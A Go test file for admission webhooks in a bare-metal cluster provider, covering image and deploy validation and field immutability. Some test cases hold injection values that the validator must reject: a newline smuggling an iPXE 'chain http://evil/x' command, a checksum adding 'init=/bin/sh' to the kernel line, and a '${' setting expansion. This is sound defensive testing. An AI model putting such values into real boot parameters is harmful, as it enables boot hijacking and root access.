package admission

import (
	"context"
	"testing"

	. "github.com/onsi/gomega"
	admissionv1 "k8s.io/api/admission/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/utils/ptr"
	"sigs.k8s.io/controller-runtime/pkg/webhook/admission"

	clusterv1 "sigs.k8s.io/cluster-api/api/core/v1beta2"

	infrav1 "github.com/yonder-dev/yonder/infrastructure-baremetal/api/v1alpha1"
)

func machine(mod func(*infrav1.YonderMetalMachineSpec)) *infrav1.YonderMetalMachine {
	m := &infrav1.YonderMetalMachine{ObjectMeta: metav1.ObjectMeta{Name: "m", Namespace: "ns"}, Spec: infrav1.YonderMetalMachineSpec{
		Image: &infrav1.Image{URL: "http://i/x.qcow2", Checksum: "abc", ChecksumType: "sha256", Format: "qcow2"}}}
	if mod != nil {
		mod(&m.Spec)
	}
	return m
}

func TestMachineValidation(t *testing.T) {
	for _, tc := range []struct {
		name string
		mod  func(*infrav1.YonderMetalMachineSpec)
		err  string
	}{
		{name: "valid image"},
		{name: "live iso needs no checksum", mod: func(s *infrav1.YonderMetalMachineSpec) {
			s.Image = &infrav1.Image{URL: "http://i/x.iso", Format: "live-iso"}
		}},
		{name: "oci needs no checksum", mod: func(s *infrav1.YonderMetalMachineSpec) { s.Image = &infrav1.Image{URL: "oci://r/x:1"} }},
		{name: "diskless", mod: func(s *infrav1.YonderMetalMachineSpec) {
			s.Image, s.CustomDeploy = nil, &infrav1.CustomDeploy{Method: infrav1.DisklessDeployMethod}
		}},
		{name: "diskless with metadata cleaning (nothing is written, nothing cleaned)", mod: func(s *infrav1.YonderMetalMachineSpec) {
			s.Image, s.CustomDeploy, s.AutomatedCleaningMode = nil, &infrav1.CustomDeploy{Method: infrav1.DisklessDeployMethod}, "metadata"
		}},
		{name: "another custom deploy method", mod: func(s *infrav1.YonderMetalMachineSpec) {
			s.Image, s.CustomDeploy = nil, &infrav1.CustomDeploy{Method: "install_coreos"}
		}, err: `spec.customDeploy.method: Unsupported value: "install_coreos": supported values: "yonder-diskless"`},
		{name: "nothing to boot", mod: func(s *infrav1.YonderMetalMachineSpec) { s.Image = nil }, err: "spec.image: Required"},
		{name: "both", mod: func(s *infrav1.YonderMetalMachineSpec) {
			s.CustomDeploy = &infrav1.CustomDeploy{Method: infrav1.DisklessDeployMethod}
		}, err: "spec.customDeploy: Forbidden: set either image or customDeploy, not both"},
		{name: "disk image without checksum", mod: func(s *infrav1.YonderMetalMachineSpec) { s.Image.Checksum = "" }, err: "spec.image.checksum: Required"},
		{name: "checksum without type", mod: func(s *infrav1.YonderMetalMachineSpec) { s.Image.ChecksumType = "" }, err: "spec.image.checksumType: Required"},
		{name: "checksum URL needs no type", mod: func(s *infrav1.YonderMetalMachineSpec) {
			s.Image.Checksum, s.Image.ChecksumType = "http://i/x.sha256", ""
		}},
		{name: "raw disk image", mod: func(s *infrav1.YonderMetalMachineSpec) { s.Image.Format = "raw" }},
		{name: "vmdk is not written", mod: func(s *infrav1.YonderMetalMachineSpec) { s.Image.Format = "vmdk" }, err: `spec.image.format: Unsupported value: "vmdk": supported values: "raw", "qcow2", "live-iso"`},
		{name: "live iso from a registry", mod: func(s *infrav1.YonderMetalMachineSpec) {
			s.Image = &infrav1.Image{URL: "oci://r/x.iso:1", Format: "live-iso"}
		}, err: "spec.image.url: Invalid value: \"oci://r/x.iso:1\": a live ISO is downloaded by the boot server over http or https"},
		{name: "live iso with metadata cleaning", mod: func(s *infrav1.YonderMetalMachineSpec) {
			s.Image = &infrav1.Image{URL: "http://i/x.iso", Format: "live-iso"}
			s.AutomatedCleaningMode = "metadata"
		}, err: "spec.automatedCleaningMode: Invalid"},
		{name: "newline in the image URL injects iPXE commands", mod: func(s *infrav1.YonderMetalMachineSpec) {
			s.Image.URL = "http://i/x.qcow2\nchain http://evil/x"
		}, err: "spec.image.url: Invalid value: \"http://i/x.qcow2\\nchain http://evil/x\": InvalidBootParameter: spec.image.url holds control character '\\n'"},
		{name: "blank in the checksum adds a kernel argument", mod: func(s *infrav1.YonderMetalMachineSpec) {
			s.Image.Checksum = "abc init=/bin/sh"
		}, err: "spec.image.checksum: Invalid value: \"abc init=/bin/sh\": InvalidBootParameter: spec.image.checksum holds a blank"},
		{name: "setting expansion in the URL", mod: func(s *infrav1.YonderMetalMachineSpec) {
			s.Image.URL = "http://i/${net0/mac}.qcow2"
		}, err: "InvalidBootParameter: spec.image.url holds \"${\""},
		{name: "bad selector", mod: func(s *infrav1.YonderMetalMachineSpec) {
			s.HostSelector.MatchExpressions = []metav1.LabelSelectorRequirement{{Key: "k", Operator: "Near"}}
		}, err: "spec.hostSelector: Invalid"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			g := NewWithT(t)
			_, err := YonderMetalMachine(nil).ValidateCreate(context.Background(), machine(tc.mod))
			if tc.err == "" {
				g.Expect(err).NotTo(HaveOccurred())
				return
			}
			g.Expect(err).To(MatchError(ContainSubstring(tc.err)))
		})
	}
}

func TestMachineImmutability(t *testing.T) {
	g := NewWithT(t)
	w := YonderMetalMachine(nil)
	old := machine(nil)
	_, err := w.ValidateUpdate(context.Background(), old, machine(func(s *infrav1.YonderMetalMachineSpec) { s.ProviderID = "yonder-metal://ns/h" }))
	g.Expect(err).NotTo(HaveOccurred(), "providerID may be set once")
	old.Spec.ProviderID = "yonder-metal://ns/h"
	_, err = w.ValidateUpdate(context.Background(), old, machine(func(s *infrav1.YonderMetalMachineSpec) { s.ProviderID = "yonder-metal://ns/other" }))
	g.Expect(err).To(MatchError(ContainSubstring("spec.providerID: Forbidden")))
	_, err = w.ValidateUpdate(context.Background(), machine(nil), machine(func(s *infrav1.YonderMetalMachineSpec) { s.Image.URL = "http://i/y.qcow2" }))
	g.Expect(err).To(MatchError(ContainSubstring("spec.image: Forbidden")))
	_, err = w.ValidateUpdate(context.Background(), machine(nil), machine(func(s *infrav1.YonderMetalMachineSpec) { s.HostSelector.MatchLabels = map[string]string{"a": "b"} }))
	g.Expect(err).To(MatchError(ContainSubstring("spec.hostSelector: Forbidden")))
}

func TestTemplatesImmutableExceptClusterClassDryRun(t *testing.T) {
	g := NewWithT(t)
	tmpl := func(url string) *infrav1.YonderMetalMachineTemplate {
		return &infrav1.YonderMetalMachineTemplate{ObjectMeta: metav1.ObjectMeta{Name: "t", Namespace: "ns"},
			Spec: infrav1.YonderMetalMachineTemplateSpec{Template: infrav1.YonderMetalMachineTemplateResource{Spec: infrav1.YonderMetalMachineSpec{
				Image: &infrav1.Image{URL: url, Format: "live-iso"}}}}}
	}
	w := YonderMetalMachineTemplate()
	_, err := w.ValidateUpdate(context.Background(), tmpl("http://a"), tmpl("http://b"))
	g.Expect(err).To(MatchError(ContainSubstring("immutable")))
	_, err = w.ValidateUpdate(context.Background(), tmpl("http://a"), tmpl("http://a"))
	g.Expect(err).NotTo(HaveOccurred())
	// ClusterClass (topology) dry-runs may change templates: they never reach etcd.
	dry := tmpl("http://b")
	dry.Annotations = map[string]string{"topology.cluster.x-k8s.io/dry-run": ""}
	ctx := admission.NewContextWithRequest(context.Background(), admission.Request{AdmissionRequest: admissionv1.AdmissionRequest{DryRun: ptr.To(true)}})
	_, err = w.ValidateUpdate(ctx, tmpl("http://a"), dry)
	g.Expect(err).NotTo(HaveOccurred())

	// The template's spec is checked as a machine's: only the diskless method is a customDeploy.
	bad := tmpl("http://a")
	bad.Spec.Template.Spec.Image, bad.Spec.Template.Spec.CustomDeploy = nil, &infrav1.CustomDeploy{Method: "install_coreos"}
	_, err = w.ValidateCreate(context.Background(), bad)
	g.Expect(err).To(MatchError(ContainSubstring(`spec.template.spec.customDeploy.method: Unsupported value: "install_coreos": supported values: "yonder-diskless"`)))

	cw := YonderMetalClusterTemplate()
	ct := func(k string) *infrav1.YonderMetalClusterTemplate {
		return &infrav1.YonderMetalClusterTemplate{Spec: infrav1.YonderMetalClusterTemplateSpec{Template: infrav1.YonderMetalClusterTemplateResource{
			Spec: infrav1.YonderMetalClusterSpec{HostSelector: infrav1.HostSelector{MatchLabels: map[string]string{k: "v"}}}}}}
	}
	_, err = cw.ValidateUpdate(context.Background(), ct("a"), ct("b"))
	g.Expect(err).To(MatchError(ContainSubstring("immutable")))
}

func TestClusterEndpointImmutableOnceSet(t *testing.T) {
	g := NewWithT(t)
	w := YonderMetalCluster()
	c := func(host string) *infrav1.YonderMetalCluster {
		return &infrav1.YonderMetalCluster{Spec: infrav1.YonderMetalClusterSpec{ControlPlaneEndpoint: clusterEndpoint(host)}}
	}
	_, err := w.ValidateUpdate(context.Background(), c(""), c("10.0.0.1"))
	g.Expect(err).NotTo(HaveOccurred())
	_, err = w.ValidateUpdate(context.Background(), c("10.0.0.1"), c("10.0.0.2"))
	g.Expect(err).To(MatchError(ContainSubstring("spec.controlPlaneEndpoint: Forbidden")))
}

func clusterEndpoint(host string) clusterv1.APIEndpoint {
	if host == "" {
		return clusterv1.APIEndpoint{}
	}
	return clusterv1.APIEndpoint{Host: host, Port: 6443}
}
